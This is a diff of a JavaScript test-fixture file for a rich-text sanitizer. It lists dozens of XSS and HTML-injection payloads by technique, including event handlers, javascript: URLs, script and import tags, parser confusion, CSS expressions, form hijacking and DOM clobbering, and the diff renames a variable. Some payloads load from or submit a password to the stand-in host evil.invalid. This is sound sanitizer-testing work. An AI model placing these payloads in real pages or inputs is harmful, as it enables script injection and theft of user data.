@@ -1,6 +1,7 @@
-// Ways to smuggle a script, a request or a disguise into HTML, by technique. Each would show a dialog or ask evil.invalid.
+// Attacks that inject a script, a request or a disguise into HTML, grouped by technique. Each would show a dialog or send a
+// request to evil.invalid. Used by the tests of the rich text cleaning.
 const js = 'alert(1)'
-const far = 'https://evil.invalid/x'
+const evilUrl = 'https://evil.invalid/x'
 
 const events = [
   ...['onclick', 'onmouseover', 'onfocus', 'onpointerenter', 'onanimationstart', 'onbeforematch'].map(
@@ -18,7 +19,7 @@ const events = [
   `<p dir='rtl" onclick="${js}'>x</p>`,
   `<a href='/x" onclick="${js}'>x</a>`,
   `<a href="/x&quot; onclick=&quot;${js}">x</a>`,
-  `<td background="${far}" onclick=${js}>x</td>`,
+  `<td background="${evilUrl}" onclick=${js}>x</td>`,
   `<table onscroll=${js}><tr onclick=${js}><th onclick=${js}>x</table>`,
   `<hr onclick=${js}><br onclick=${js}>x`,
   `<p contenteditable oninput=${js} popover ontoggle=${js}>x</p>`,
@@ -75,20 +76,20 @@ const otherTargets = [
   `<a xlink:href="javascript:${js}">x</a>`,
   `<a HREF=javascript:${js}>x</a>`,
   `<a href=/x href=javascript:${js}>x</a>`,
-  `<a href="/x" ping="${far}" download target=_top>x</a>`,
+  `<a href="/x" ping="${evilUrl}" download target=_top>x</a>`,
   `<area href=javascript:${js}>`,
-  `<link rel=stylesheet href=${far}>x`,
-  `<base href="${far}"><a href="/x">x</a>`,
+  `<link rel=stylesheet href=${evilUrl}>x`,
+  `<base href="${evilUrl}"><a href="/x">x</a>`,
   `<meta http-equiv=refresh content="0;url=javascript:${js}">x`,
-  `<meta http-equiv=refresh content="0;url=${far}">x`,
+  `<meta http-equiv=refresh content="0;url=${evilUrl}">x`,
 ]
 
 const scripts = [
   `<script>${js}</script>x`,
   `<ScRiPt >${js}</sCrIpT >x`,
-  `<script/src=${far}></script>x`,
+  `<script/src=${evilUrl}></script>x`,
   `<script src=data:,${js}></script>x`,
-  `<script type=module>import("${far}")</script>x`,
+  `<script type=module>import("${evilUrl}")</script>x`,
   `<<script>${js}//<</script>x`,
   `<scr<script>ipt>${js}</scr</script>ipt>x`,
   `<script\u0000>${js}</script>x`,
@@ -102,28 +103,28 @@ const scripts = [
 
 const loaders = [
   `<img src=x onerror=${js}>`,
-  `<img src="${far}">`,
-  `<img srcset="${far} 1x">`,
+  `<img src="${evilUrl}">`,
+  `<img srcset="${evilUrl} 1x">`,
   `<image src=x onerror=${js}>`,
-  `<picture><source srcset=${far}></picture>x`,
-  `<video poster=${far} onloadstart=${js}><source onerror=${js}></video>x`,
+  `<picture><source srcset=${evilUrl}></picture>x`,
+  `<video poster=${evilUrl} onloadstart=${js}><source onerror=${js}></video>x`,
   `<audio src=x onerror=${js}></audio>x`,
   `<iframe src=javascript:${js}></iframe>x`,
   `<iframe srcdoc="<script>${js}</script>"></iframe>x`,
   `<iframe srcdoc="&lt;img src=x onerror=${js}&gt;"></iframe>x`,
   `<object data=javascript:${js}></object>x`,
   `<embed src=javascript:${js}>x`,
-  `<applet code=${far}></applet>x`,
-  `<frameset onload=${js}><frame src=${far}></frameset>x`,
-  `<body onload=${js} background=${far}>x`,
+  `<applet code=${evilUrl}></applet>x`,
+  `<frameset onload=${js}><frame src=${evilUrl}></frameset>x`,
+  `<body onload=${js} background=${evilUrl}>x`,
   `<html onmouseover=${js}>x</html>`,
-  `<bgsound src=${far}>x`,
-  `<input type=image src=${far} onerror=${js} autofocus onfocus=${js}>x`,
+  `<bgsound src=${evilUrl}>x`,
+  `<input type=image src=${evilUrl} onerror=${js} autofocus onfocus=${js}>x`,
   `<marquee onstart=${js}>x</marquee>`,
   `<details open ontoggle=${js}><summary>x</summary></details>`,
   `<dialog open onclose=${js}>x</dialog>`,
   `<keygen autofocus onfocus=${js}>x`,
-  `<portal src=${far}></portal>x`,
+  `<portal src=${evilUrl}></portal>x`,
 ]
 
 const namespaces = [
@@ -164,7 +165,7 @@ const parsing = [
   `<!--<img title="--><img src=x onerror=${js}>">x`,
   `<![CDATA[<img src=x onerror=${js}>]]>x`,
   `<!DOCTYPE x [<!ENTITY e "<script>${js}</script>">]>&e;x`,
-  `<?import namespace="t" implementation="${far}"?>x`,
+  `<?import namespace="t" implementation="${evilUrl}"?>x`,
   `<p><a href="/x"><table><a href="javascript:${js}">x</a></table></a></p>`,
   `<table><td><b><table><img src=x onerror=${js}></b></table>`,
   `<b><i></b><script>${js}</script></i>x`,
@@ -191,28 +192,28 @@ const parsing = [
 
 const styles = [
   `<p style="background:url(javascript:${js})">x</p>`,
-  `<p style="background:url(${far})">x</p>`,
+  `<p style="background:url(${evilUrl})">x</p>`,
   `<p style="width:expression(${js})">x</p>`,
   `<p style="wid/**/th:expr/**/ession(${js})">x</p>`,
-  `<p style="-moz-binding:url(${far})">x</p>`,
-  `<p style="behavior:url(${far})">x</p>`,
+  `<p style="-moz-binding:url(${evilUrl})">x</p>`,
+  `<p style="behavior:url(${evilUrl})">x</p>`,
   `<p style="position:fixed;inset:0;z-index:9999">x</p>`,
-  `<style>@import "${far}";</style>x`,
-  `<style>p{background:url(${far})}</style>x`,
+  `<style>@import "${evilUrl}";</style>x`,
+  `<style>p{background:url(${evilUrl})}</style>x`,
   `<p class="button" id="root">x</p>`,
-  `<font color=red face="${far}">x</font>`,
+  `<font color=red face="${evilUrl}">x</font>`,
 ]
 
 const forms = [
   `<form action=javascript:${js}><button>x</button></form>`,
-  `<form action=${far}><input name=password></form>x`,
+  `<form action=${evilUrl}><input name=password></form>x`,
   `<button formaction=javascript:${js}>x</button>`,
-  `<input type=submit formaction=${far} form=search>x`,
+  `<input type=submit formaction=${evilUrl} form=search>x`,
   `<isindex action=javascript:${js} type=submit>x`,
   `<form id=x></form><button form=x formaction=javascript:${js}>x</button>`,
   `<textarea autofocus onfocus=${js}>x</textarea>`,
   `<select autofocus onfocus=${js}><option>x</select>`,
-  `<p id=token name=localStorage>x</p><a id=api name=call href=${far}>x</a>`,
+  `<p id=token name=localStorage>x</p><a id=api name=call href=${evilUrl}>x</a>`,
   `<label for=search onclick=${js}>x</label>`,
   `<slot onslotchange=${js}>x</slot><p slot=x is=x-y>x</p>`,
 ]
